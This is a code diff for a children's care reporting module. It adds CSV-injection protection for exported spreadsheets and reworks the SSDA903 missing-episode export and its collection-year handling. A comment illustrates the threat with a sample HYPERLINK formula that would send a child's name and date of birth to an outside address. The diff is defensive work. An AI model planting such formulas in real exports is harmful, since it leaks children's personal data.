@@ -17,12 +17,23 @@ from storage import child_store, duty_store, episode_store, staff_store
 from storage.db import Reader
 from storage.models import Category, Child, EpisodeState, Staff
 
+# A spreadsheet runs a cell beginning with one of these as a formula (OWASP, CSV injection):
+# a carer's `=HYPERLINK("https://…?d="&D2&E2)` beside a child's name and date of birth.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral(cell: object) -> object:
+    """A text cell a spreadsheet would read as a formula is prefixed with a single quote."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_START):
+        return "'" + cell
+    return cell
+
 
 def _csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerows([neutral(cell) for cell in row] for row in rows)
     return buffer.getvalue()
 
 
@@ -131,19 +142,48 @@ async def period(
     }
 
 
-def collection_year(start_year: int, zone: ZoneInfo) -> tuple[datetime, datetime]:
-    """The SSDA903 year: 1 April to 31 March, local time."""
+def collection_year(year: int, zone: ZoneInfo) -> tuple[datetime, datetime]:
+    """The SSDA903 collection year as the DfE (and its validator's `collectionYear`) name it:
+    the year it ends, so 2027 is 1 April 2026 to 31 March 2027, local time."""
     return (
-        datetime.combine(date(start_year, 4, 1), time(0), tzinfo=zone),
-        datetime.combine(date(start_year + 1, 4, 1), time(0), tzinfo=zone),
+        datetime.combine(date(year - 1, 4, 1), time(0), tzinfo=zone),
+        datetime.combine(date(year, 4, 1), time(0), tzinfo=zone),
     )
 
 
-async def ssda903_missing(r: Reader, staff: Staff, start_year: int, zone: ZoneInfo) -> str:
-    """The Missing table: CHILD, MISSING (M missing, A away without authorisation),
-    MIS_START, MIS_END (dd/mm/yyyy; blank while still missing). An absence that was never
+def read_collection_year(text: str) -> int:
+    """'2027', '2026-27' or '2026/27' → 2027 (the year the return ends)."""
+    cleaned = text.strip()
+    if cleaned.isdigit() and len(cleaned) == 4:
+        return int(cleaned)
+    for sep in ("-", "/"):
+        first, _, second = cleaned.partition(sep)
+        if first.isdigit() and len(first) == 4 and second.isdigit() and len(second) in (2, 4):
+            end = int(first) + 1
+            if int(second) in (end, end % 100):
+                return end
+    raise ValueError(
+        f"{text!r} is not a collection year: give the year the return ends (2027 for "
+        "April 2026 to March 2027) or the span (2026-27)"
+    )
+
+
+def _dmy(at: datetime | date | None, zone: ZoneInfo) -> str:
+    if at is None:
+        return ""
+    if isinstance(at, datetime):
+        at = at.astimezone(zone).date()
+    return at.strftime("%d/%m/%Y")
+
+
+async def ssda903_missing(r: Reader, staff: Staff, year: int, zone: ZoneInfo) -> str:
+    """The Missing table for collection year `year` (the year it ends, as the DfE count):
+    CHILD, DOB, MISSING (M missing, A away without authorisation), MIS_START, MIS_END, as the
+    DfE's validator (csc-validator-be-903) reads it. Dates are dd/mm/yyyy; MIS_END is blank
+    while the child is still missing at the end of the year (after 31 March it belongs to the
+    next return). DOB only where `staff` may see the child's profile. An absence never
     reported missing nor known to be away is not a 903 episode and is left out."""
-    start, end = collection_year(start_year, zone)
+    start, end = collection_year(year, zone)
     children = await _visible(r, staff)
     rows = []
     for e in await episode_store.episodes_started_between(r, start, end):
@@ -155,13 +195,12 @@ async def ssda903_missing(r: Reader, staff: Staff, start_year: int, zone: ZoneIn
             code = "A"
         else:
             continue
+        child = children[e.child_id]
         finished = e.found_at if e.state is not EpisodeState.OPEN else None
+        if finished is not None and finished >= end:
+            finished = None  # still missing on 31 March
+        dob = child.dob if may(staff, "profile", child) else None
         rows.append(
-            [
-                children[e.child_id].ref,
-                code,
-                e.last_seen_at.astimezone(zone).strftime("%d/%m/%Y"),
-                finished.astimezone(zone).strftime("%d/%m/%Y") if finished else "",
-            ]
+            [child.ref, _dmy(dob, zone), code, _dmy(e.last_seen_at, zone), _dmy(finished, zone)]
         )
-    return _csv(["CHILD", "MISSING", "MIS_START", "MIS_END"], rows)
+    return _csv(["CHILD", "DOB", "MISSING", "MIS_START", "MIS_END"], rows)
